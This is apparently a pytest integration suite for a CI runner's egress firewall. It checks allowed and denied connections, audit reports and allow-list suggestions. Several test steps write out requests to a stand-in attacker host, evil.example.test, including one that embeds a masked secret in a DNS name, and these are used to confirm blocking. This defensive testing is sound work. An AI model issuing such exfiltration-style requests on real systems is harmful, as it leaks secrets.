"""What guests reach and what they do not, with programs as they are: real servers in a network namespace of the test."""
import hashlib
import json
import os
import pathlib
import shutil
import subprocess

import pytest

import devdep
import runs
import world as worlds
from world import NOBODY, PRIVATE, SERVERS, SERVERS6, HostCli

pytestmark = [pytest.mark.guest, pytest.mark.skipif(worlds.missing() is not None or devdep.USER is not None, reason="network namespaces need root")]
ALLOWED = ["web.example.test", "web.example.test:80", "*.mirror.example.test", "nobody.example.test", f"{SERVERS[0]}/32:8080", f"[{SERVERS6[0]}]/128:8080",
           "private.example.test", "gone.example.test"]
NGINX = """
daemon off; pid {folder}/nginx.pid; error_log {folder}/error.log; worker_processes 1; events {{ worker_connections 512; }}
http {{
  access_log off; client_body_temp_path {folder}/body; proxy_temp_path {folder}/proxy; fastcgi_temp_path {folder}/fastcgi;
  uwsgi_temp_path {folder}/uwsgi; scgi_temp_path {folder}/scgi; types {{ }} default_type application/octet-stream;
  ssl_certificate {certificate}; ssl_certificate_key {key};
  server {{ listen {v4}:443 ssl http2; listen [{v6}]:443 ssl http2; listen {private}:443 ssl; listen {v4}:80; listen {v4}:8080; listen [{v6}]:8080;
           root {folder}/www; autoindex on; location /big {{ alias {folder}/big; }} }}
}}
"""


def serve(world):
    """nginx over https and http, at the addresses of two names."""
    www = world.folder / "www"
    www.mkdir()
    (www / "hello").write_text("hello from nginx\n")
    (world.folder / "big").write_bytes(bytes(range(256)) * 4096 * 8)
    certificate, key = world.authority.issue("web.example.test", "*.mirror.example.test", "private.example.test")
    (world.folder / "nginx.conf").write_text(NGINX.format(folder=world.folder, certificate=certificate, key=key, v4=SERVERS[0], v6=SERVERS6[0],
                                                          private=PRIVATE))
    log = world.folder / "nginx.log"
    with open(log, "wb") as err:
        nginx = world.popen(["nginx", "-p", world.folder, "-c", world.folder / "nginx.conf"], stdout=err, stderr=err)

    def serves():
        assert nginx.poll() is None, log.read_text()
        return world.inside(listening)
    runs.wait_until(serves, "nginx listens")


def listening():
    return ":01BB " in pathlib.Path("/proc/thread-self/net/tcp").read_text()


@pytest.fixture(scope="module")
def world():
    with worlds.World() as w:
        w.authority = worlds.Authority(w.folder)
        w.names.table.update({"web.example.test": [SERVERS[0], SERVERS6[0]], "deb.mirror.example.test": [SERVERS[0]], "nobody.example.test": [NOBODY],
                              "private.example.test": [PRIVATE], "other.example.test": [SERVERS[0]]})
        serve(w)
        yield w


class Scene:
    def __init__(self, world, folder):
        self.world = world
        state = folder / "state"
        state.mkdir()
        self.cli, self.repo = HostCli(world, state), devdep.Repo(folder / "repo")
        self.repo.write("ca.pem", world.authority.bundle.read_text())

    def run(self, *steps, allow=ALLOWED, args=(), files=()):
        """A run whose steps are shell scripts."""
        self.repo.workflow(json.dumps({"on": "push", "jobs": {"a": {"runs-on": "default", "env": {"CURL_CA_BUNDLE": "ca.pem"}, "steps": [
            {"uses": "actions/checkout@v4"}, *({"name": f"step {i}", "run": step} if isinstance(step, str) else step for i, step in enumerate(steps))]}}}))
        self.repo.commit()
        more = [word for entry in allow for word in ("--allow", entry)]
        result = self.cli("run", "--json", "--dir", self.repo.path, "--memory", "512M", *more, *args)
        self.result = runs.Run(result)
        return self.result["a"]

    def records(self, **wanted):
        return [e for e in self.result["a"].events if e["type"] == "egress" and all(e.get(k) == v for k, v in wanted.items())]


@pytest.fixture
def scene(world, folder):
    return Scene(world, folder)


def test_curl_reaches_an_allowed_name_over_https_and_http_and_listed_addresses(scene):
    job = scene.run("curl -sSf https://web.example.test/hello", "curl -sSf http://web.example.test/hello",
                    "curl -sSf4 https://web.example.test/hello; curl -sSf6 https://web.example.test/hello",
                    f"curl -sSf http://{SERVERS[0]}:8080/hello; curl -sSf 'http://[{SERVERS6[0]}]:8080/hello'",
                    "curl -sSf https://deb.mirror.example.test/hello",
                    "curl -sSf https://web.example.test/big -o big && cksum < big", "curl -sS -T big -o /dev/null -w '%{http_code}\\n' https://web.example.test/x")
    assert job.conclusion == "success", job.steps
    logs = [step.log for step in job.steps[1:]]
    assert logs[:5] == ["hello from nginx\n"] * 2 + ["hello from nginx\n" * 2] * 2 + ["hello from nginx\n"]
    cksum = subprocess.run(["cksum"], stdin=open(scene.world.folder / "big"), capture_output=True, text=True).stdout
    assert logs[5] == cksum
    first = scene.records(kind="connect")[0]
    assert (first["verdict"], first["name"], first["address"] in (SERVERS[0], SERVERS6[0]), first["port"], first["step"]) == ("allowed", "web.example.test", True, 443, 1)
    assert first["received"] > 500 and first["sent"] > 200 and "weak" not in first
    assert scene.records(kind="connect", port=80)[0]["weak"] == 1
    assert scene.records(kind="lookup", verdict="listed")[0]["name"] == "web.example.test"
    record = json.loads((scene.cli.state / "runs/1/run.json").read_text())["jobs"][0]["egress"]
    assert record["profile"] == "brokered" and record["digest"].startswith("sha256:") and record["records"] == len(scene.records())


def text_of(job):
    return "\n".join(a["message"] for step in job.steps for a in step.annotations)


def test_a_forbidden_name_ends_the_run_with_401_and_says_who_where_and_what_would_allow_it(scene):
    job = scene.run("curl -sS https://evil.example.test/x; echo went-on", "echo next-$((1+1))")
    assert scene.result.result.status == 145 and scene.result.result.error[:2] == (401, "ERR_EGRESS_VIOLATION")
    message = scene.result.result.error[2]
    for part in ("step 'step 0'", "evil.example.test:443", "process curl", "'evil.example.test' in egress.allow would allow it"):
        assert part in message, message
    assert text_of(job) in message or "evil.example.test" in text_of(job)
    assert "next-2" not in scene.result.result.out
    assert "evil.example.test:443" in job.steps[1].summary
    (record,) = scene.records(verdict="denied")
    assert (record["kind"], record["name"], record["port"], record["process"], record["entry"]) == ("packet", "evil.example.test", 443, "curl", "evil.example.test")


WARN = ["--on-violation", "warn"]
QUICK = "timeout 60 {} || echo status $?"  # 124: it hung
PYTHON = "python3 -c \"import socket; s = socket.socket(socket.{}, socket.{}); s.connect(({!r}, 53)); s.send(b'x'); s.recv(1)\""


def test_everything_else_is_refused_at_once_and_reported(scene):
    steps = {"name": "curl -sS https://evil.example.test/", "port of a listed name": "curl -sS https://web.example.test:8443/",
             "IPv4 literal": f"curl -sS http://{SERVERS[1]}:8080/", "another port of a listed address": f"curl -sS http://{SERVERS[0]}:81/",
             "IPv6 literal": f"curl -sS 'http://[{SERVERS6[1]}]:8080/'", "UDP": PYTHON.format("AF_INET", "SOCK_DGRAM", SERVERS[1]),
             "UDP over IPv6": PYTHON.format("AF_INET6", "SOCK_DGRAM", SERVERS6[1]),
             "ICMP": "sudo python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.settimeout(20); s.sendto(bytes([8, 0, 0xf7, 0xfd, 0, 1, 0, 1]), ('9.9.9.9', 0)); print('type', s.recv(100)[20])\""}
    job = scene.run(*({"name": name, "run": QUICK.format(step), "continue-on-error": True} for name, step in steps.items()), args=WARN)
    assert job.conclusion == "success" and scene.result.result.status == 0
    told = {name: job[name].log for name in steps}
    for name in steps:
        assert any(word in told[name] for word in ("refused", "reset by peer", "Couldn't connect", "type 3")), told
        assert "status 124" not in told[name], told
    assert "type 3" in told["ICMP"]
    denied = {(r.get("name") or r["address"], r.get("port"), r["protocol"]) for r in scene.records(verdict="denied")}
    assert denied == {("evil.example.test", 443, "tcp"), ("web.example.test", 8443, "tcp"), (SERVERS[1], 8080, "tcp"), (SERVERS[0], 81, "tcp"),
                      (SERVERS6[1], 8080, "tcp"), (SERVERS[1], 53, "udp"), (SERVERS6[1], 53, "udp"), ("9.9.9.9", None, "icmp")}
    assert {r.get("process") for r in scene.records(verdict="denied")} >= {"curl", "python3"}
    assert all(a["level"] == "warning" for step in job.steps for a in step.annotations) and len(text_of(job).splitlines()) >= 8


def test_a_lookup_that_no_packet_follows_is_recorded_and_is_no_violation(scene):
    job = scene.run("getent ahosts evil.example.test | head -1")
    assert job.conclusion == "success"
    assert scene.records(kind="lookup", name="evil.example.test")[0]["verdict"] == "unlisted"
    assert scene.records(verdict="denied") == []


def test_a_sealed_guest_reaches_nothing(scene):
    """Not even what the command's own host reaches; no broker runs."""
    job = scene.run(*({"run": f"curl -sS {url} || echo refused", "continue-on-error": True} for url in (
        "https://web.example.test/hello", f"http://{SERVERS[0]}:8080/hello")), allow=(), args=WARN)
    assert [step.lines[-1] for step in job.steps[1:]] == ["refused"] * 2
    assert {r["name"] if "name" in r else r["address"] for r in scene.records(verdict="denied")} == {"web.example.test", SERVERS[0]}
    assert "brokered profile" in text_of(job)
    assert json.loads((scene.cli.state / "runs/1/run.json").read_text())["jobs"][0]["egress"]["profile"] == "sealed"


def test_what_cannot_be_reached_is_reset_at_once_and_is_no_violation(scene):
    """connect() may have succeeded before: docs/limits.md."""
    job = scene.run({"run": QUICK.format("curl -sS https://nobody.example.test/"), "continue-on-error": True},
                    {"run": QUICK.format("curl -sS https://gone.example.test/"), "continue-on-error": True})
    assert job.conclusion == "success", job.steps
    for step in job.steps[1:]:
        assert "reset by peer" in step.log or "SSL_ERROR_SYSCALL" in step.log, step
        assert "status" in step.log and "status 124" not in step.log
    assert {r["verdict"] for r in scene.records(kind="connect")} == {"unreachable"}
    for step, name in zip(job.steps[1:], ("nobody.example.test", "gone.example.test")):
        told, = [a for a in step.annotations if a["title"] == "Outgoing connection"]
        assert told["level"] == "notice" and told["message"].startswith(f"{name}:443 could not be reached: "), told


def test_a_name_that_resolves_to_a_private_address_is_a_violation_and_its_prefix_would_allow_it(scene):
    job = scene.run("curl -sS https://private.example.test/")
    assert job.finished["code"] == 401
    assert f"{PRIVATE} is a private address; '{PRIVATE}/32:443' in egress.allow would allow it" in job.finished["message"]


def test_audit_lets_everything_through_and_its_record_becomes_an_allow_list(scene, folder):
    report = folder / "report"
    job = scene.run("curl -sSf https://web.example.test/hello http://web.example.test/hello", f"curl -sSf http://{SERVERS[0]}:8080/hello",
                    {"run": "curl -sS https://private.example.test/", "continue-on-error": True}, allow=(),
                    args=["--egress", "audit", "--egress-report", report, *WARN])
    assert job.conclusion == "success", job.steps
    lines = [json.loads(line) for line in report.read_text().splitlines()]
    assert len(lines) == len(scene.records()) and all(line["run"] == "1" and line["job"] == "a" for line in lines)
    for source in ("1", "1/a", report):
        suggested = scene.cli("egress", "suggest", source)
        assert suggested.status == 0, suggested
        assert suggested.out.startswith("egress:\n  profile: brokered\n  allow:\n")
        entries = [line.split("'")[1] for line in suggested.out.splitlines() if line.strip().startswith("- ")]
        assert entries == [f"{SERVERS[0]}/32:8080", "web.example.test", "web.example.test:80"], suggested.out
        assert f"# - '{PRIVATE}/32:443' # 1 connection, 0 bytes; was denied" in suggested.out and "weaker" in suggested.out
    digest = json.loads((scene.cli.state / "runs/1/run.json").read_text())["jobs"][0]["egress"]["digest"]
    assert digest == "sha256:" + hashlib.sha256(report.read_bytes()).hexdigest()
    denied = folder / "denied"
    denied.write_text("".join(json.dumps(line) + "\n" for line in lines if line["verdict"] == "denied"))
    suggested = scene.cli("egress", "suggest", denied)
    assert suggested.out.startswith(f"egress:\n  profile: brokered\n  # allow:\n    # - '{PRIVATE}/32:443'"), suggested.out
    absent = folder / "absent"
    absent.write_text(json.dumps({"kind": "connect", "verdict": "unreachable", "name": "nobody.example.test", "port": 443, "sent": 0, "received": 0}) + "\n")
    assert "- 'nobody.example.test' # 1 connection, 0 bytes; could not be reached\n" in scene.cli("egress", "suggest", absent).out
    (folder / "devdep.yaml").write_text("entity: web\ndomain: corp.example\n" + suggested.out.replace("  # ", "  "))
    assert "no problems" in scene.cli("validate", "--file", folder / "devdep.yaml").out


def test_a_masked_value_in_a_name_does_not_leave(scene):
    job = scene.run("echo ::add-mask::s3cr3tvalue\ngetent hosts s3cr3tvalue.evil.test\ncurl -sS https://s3cr3tvalue.evil.test/", args=WARN)
    assert "s3cr3tvalue" not in scene.result.result.text.replace("add-mask::s3cr3tvalue", "")
    assert scene.records(verdict="denied")[0]["name"] == "***.evil.test"
    assert "***.evil.test" in text_of(job)


def test_git_over_https_works_unmodified(scene):
    www = scene.world.folder / "www"
    source = devdep.Repo(scene.world.folder / "project")
    source.write("file", "from git\n")
    source.commit()
    subprocess.run(["git", "clone", "-q", "--bare", str(source.path), str(www / "project.git")], check=True)
    subprocess.run(["git", "-C", str(www / "project.git"), "update-server-info"], check=True)
    backend = scene.world.folder / "backend.py"
    backend.write_text(BACKEND)
    certificate, key = scene.world.authority.issue("git.mirror.example.test")
    scene.world.popen(["/usr/bin/python3", backend, SERVERS[2], certificate, key, www])
    scene.world.names.table["git.mirror.example.test"] = [SERVERS[2]]
    runs.wait_until(lambda: scene.world.inside(lambda: can_connect(SERVERS[2], 443)), "git http-backend listens")
    job = scene.run("git -c http.sslCAInfo=$PWD/ca.pem clone -q https://git.mirror.example.test/project.git there && cat there/file",
                    "cd there && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git -c http.sslCAInfo=$PWD/../ca.pem push -q origin HEAD:new")
    assert job.steps[1].log == "from git\n" and job.conclusion == "success", job.steps
    assert subprocess.run(["git", "-C", str(www / "project.git"), "rev-parse", "new"], capture_output=True).returncode == 0


def package(folder):
    """A Debian archive with one package that prints a line, in a folder that nginx serves."""
    tree = folder / "tree"
    (tree / "DEBIAN").mkdir(parents=True)
    (tree / "usr/bin").mkdir(parents=True)
    (tree / "usr/bin/greet").write_text("#!/bin/sh\necho hello from a package\n")
    (tree / "usr/bin/greet").chmod(0o755)
    control = "Package: greet\nVersion: 1\nArchitecture: all\nMaintainer: a <a@b>\nDescription: greets\n"
    (tree / "DEBIAN/control").write_text(control)
    archive = folder / "www/debian"
    archive.mkdir()
    subprocess.run(["dpkg-deb", "--root-owner-group", "-b", str(tree), str(archive / "greet.deb")], check=True, stdout=subprocess.DEVNULL)
    data = (archive / "greet.deb").read_bytes()
    packages = control + f"Filename: ./greet.deb\nSize: {len(data)}\nSHA256: {hashlib.sha256(data).hexdigest()}\n"
    (archive / "Packages").write_text(packages)
    (archive / "Release").write_text(f"SHA256:\n {hashlib.sha256(packages.encode()).hexdigest()} {len(packages)} Packages\n")


@pytest.mark.parametrize("scheme", ["https", "http"])
def test_apt_get_installs_from_an_allowed_server(scene, scheme):
    if not (scene.world.folder / "www/debian").exists():
        package(scene.world.folder)
    name = "web.example.test"
    apt = "sudo apt-get -q -o Dir::Etc::sourcelist=$PWD/list -o Dir::Etc::sourceparts=/dev/null -o Acquire::https::CAInfo=$PWD/ca.pem"
    job = scene.run(f"echo 'deb [trusted=yes] {scheme}://{name}/debian ./' > list\n{apt} update && {apt} install -y greet && greet")
    assert job.conclusion == "success" and job.steps[1].lines[-1] == "hello from a package", job.steps


CLIENT = r"""
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv)
{
        struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *a;
        char answer[4096];
        if (argc != 2 || getaddrinfo(argv[1], "80", &hints, &a))
                return puts("no address"), 1;
        int fd = socket(a->ai_family, SOCK_STREAM, 0);
        if (connect(fd, a->ai_addr, a->ai_addrlen))
                return perror("connect"), 1;
        dprintf(fd, "GET /hello HTTP/1.0\r\nHost: %s\r\n\r\n", argv[1]);
        ssize_t n, len = 0;
        while ((n = read(fd, answer + len, sizeof(answer) - 1 - len)) > 0)
                len += n;
        answer[len] = 0;
        char *body = strstr(answer, "\r\n\r\n");
        return puts(body ? body + 4 : "no answer"), 0;
}
"""


def test_a_static_program_and_node_work_unmodified(scene, folder):
    """Programs that know no proxy and bring their own resolver."""
    (folder / "client.c").write_text(CLIENT)
    subprocess.run(["musl-gcc", "-static", "-o", str(folder / "client"), str(folder / "client.c")], check=True)
    scene.repo.write("client", (folder / "client").read_bytes(), 0o755)
    get = "fetch('https://web.example.test/hello').then(r => r.text()).then(t => console.log(t))"
    dns = "require('dns').resolve4('web.example.test', (e, a) => console.log(e || a[0].startsWith('198.18.')))"
    job = scene.run("./client web.example.test", f'NODE_EXTRA_CA_CERTS=$PWD/ca.pem node -e "{get}"', f'node -e "{dns}"',
                    'python3 -c "import ssl, urllib.request; print(urllib.request.urlopen(\'https://web.example.test/hello\', '
                    'context=ssl.create_default_context(cafile=\'ca.pem\')).read().decode())"')
    assert [step.lines[0] for step in job.steps[1:]] == ["hello from nginx", "hello from nginx", "true", "hello from nginx"], job.steps


GO = """
package main

import (
	"fmt"
	"io"
	"net/http"
)

func main() {
	answer, err := http.Get("https://web.example.test/hello")
	if err != nil {
		panic(err)
	}
	body, _ := io.ReadAll(answer.Body)
	fmt.Print(string(body))
	_, err = http.Get("https://evil.example.test/")
	fmt.Println(err != nil)
}
"""
JAVA = """
import java.net.URL;

class Get {
    public static void main(String[] args) throws Exception {
        System.out.print(new String(new URL("http://web.example.test/hello").openStream().readAllBytes()));
        try {
            new URL("https://evil.example.test/").openStream();
        } catch (java.io.IOException e) {
            System.out.println("refused");
        }
    }
}
"""


def test_a_go_program_and_a_java_program_work_unmodified(scene, folder):
    """A static binary with Go's own resolver, and a Java runtime of what the program needs: none of the two reads a proxy's variables here."""
    (folder / "get.go").write_text(GO)
    subprocess.run(["go", "build", "-o", folder / "get", folder / "get.go"], check=True,
                   env={**os.environ, "CGO_ENABLED": "0", "GOCACHE": str(folder / "cache"), "GOFLAGS": "-mod=mod", "HOME": str(folder)})
    (folder / "Get.java").write_text(JAVA)
    subprocess.run(["javac", "-d", folder, folder / "Get.java"], check=True)
    subprocess.run(["jlink", "--add-modules", "java.base", "--strip-debug", "--no-header-files", "--no-man-pages", "--output", folder / "jre"], check=True)
    shutil.copytree(folder / "jre", scene.repo.path / "jre", symlinks=True)
    for name, mode in (("get", 0o755), ("Get.class", 0o644)):
        scene.repo.write(name, (folder / name).read_bytes(), mode)
    devdep.give(scene.repo.path)
    job = scene.run("SSL_CERT_FILE=$PWD/ca.pem ./get", "http_proxy=http://127.0.0.1:9 jre/bin/java -XX:TieredStopAtLevel=1 -cp . Get", args=WARN)
    assert [step.lines[:2] for step in job.steps[1:]] == [["hello from nginx", "true"], ["hello from nginx", "refused"]], job.steps


def test_a_jobs_own_servers_are_left_alone(scene):
    """Port 443, and even port 53, are the job's own."""
    job = scene.run("sudo python3 -m http.server 443 --bind 0.0.0.0 > /dev/null 2>&1 &\n"
                    "for i in $(seq 100); do curl -sSf http://127.0.0.1:443/ca.pem -o one && break; sleep 0.2; done; cmp one ca.pem && echo same\n"
                    "sudo python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.bind(('0.0.0.0', 53)); print('bound')\"\n"
                    "curl -sSf https://web.example.test/hello")
    assert job.conclusion == "success" and [line for line in job.steps[1].lines if line in ("same", "bound", "hello from nginx")] == [
        "same", "bound", "hello from nginx"], job.steps


def test_the_records_go_to_syslog_where_that_is_asked_for(scene):
    if pathlib.Path("/dev/log").exists():
        pytest.skip("this host has a syslog: its lines cannot be read here")
    import socket
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as log:
        log.bind("/dev/log")
        try:
            log.settimeout(60)
            scene.run("curl -sS https://evil.example.test/", args=[*WARN, "--egress-syslog"])
            lines = []
            while not lines or '"verdict":"denied"' not in lines[-1]:
                lines.append(log.recv(65536).decode())
        finally:
            pathlib.Path("/dev/log").unlink()
    assert all(line.startswith("<") and "devdep[" in line and "egress {" in line for line in lines)
    record = json.loads(lines[-1][lines[-1].index("{"):])
    assert record["name"] == "evil.example.test" and lines[-1].startswith(f"<{3 * 8 + 4}>")


def test_the_profile_of_the_repository_decides_where_the_command_line_says_nothing(scene):
    scene.repo.write("devdep.yaml", "entity: app\ndomain: acme.example\negress:\n  profile: brokered\n  on_violation: warn\n  allow:\n"
                     f"    - WEB.example.test\n    - '[{SERVERS6[0]}]/128:8080'\n")
    job = scene.run("curl -sSf https://web.example.test/hello", f"curl -sSf 'http://[{SERVERS6[0]}]:8080/hello'",
                    {"run": "curl -sS https://evil.example.test/", "continue-on-error": True}, allow=())
    assert job.conclusion == "success" and [s.log for s in job.steps[1:3]] == ["hello from nginx\n"] * 2, job.steps
    assert "evil.example.test:443" in text_of(job)


def test_an_entry_out_of_form_is_refused_before_anything_runs(scene):
    for entry, part in (("*", "a bare '*' is every name"), ("1.2.3.4", "an address has its prefix and its port"), ("b\u00fccher.example", "xn--")):
        scene.repo.workflow("on: push\njobs: {a: {runs-on: default, steps: [{run: 'true'}]}}")
        scene.repo.commit()
        result = scene.cli("run", "--dir", scene.repo.path, "--allow", entry)
        assert result.status == 2 and part in result.error[2], result
    assert not list((scene.cli.state / "runs").glob("[0-9]*"))


def can_connect(address, port):
    import socket
    with socket.socket() as s:
        return s.connect_ex((address, port)) == 0


# git http-backend behind Python's own server: CGI over TLS.
BACKEND = r"""
import http.server, os, ssl, subprocess, sys
address, certificate, key, root = sys.argv[1:]

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do(self):
        path, _, query = self.path.partition("?")
        if self.headers.get("Transfer-Encoding") == "chunked":
            body = b""
            while size := int(self.rfile.readline(), 16):
                body += self.rfile.read(size)
                self.rfile.readline()
            self.rfile.readline()
        else:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        env = {"PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": root, "GIT_HTTP_EXPORT_ALL": "1", "PATH_INFO": path, "QUERY_STRING": query,
               "REQUEST_METHOD": self.command, "CONTENT_TYPE": self.headers.get("Content-Type", ""), "REMOTE_USER": "x", "CONTENT_LENGTH": str(len(body)),
               "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""), "GIT_PROTOCOL": self.headers.get("Git-Protocol", "")}
        out = subprocess.run(["git", "http-backend"], input=body, env=env, stdout=subprocess.PIPE).stdout
        head, _, rest = out.partition(b"\r\n\r\n")
        fields = [line.split(": ", 1) for line in head.decode().split("\r\n")]
        status = int(dict(fields).get("Status", "200").split()[0])
        self.send_response(status)
        for name, value in fields:
            if name != "Status":
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(rest)))
        self.end_headers()
        self.wfile.write(rest)
    do_GET = do_POST = do

    def log_message(self, *args):
        pass

context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(certificate, key)
server = http.server.ThreadingHTTPServer((address, 443), Handler)
server.socket = context.wrap_socket(server.socket, server_side=True)
server.serve_forever()
"""
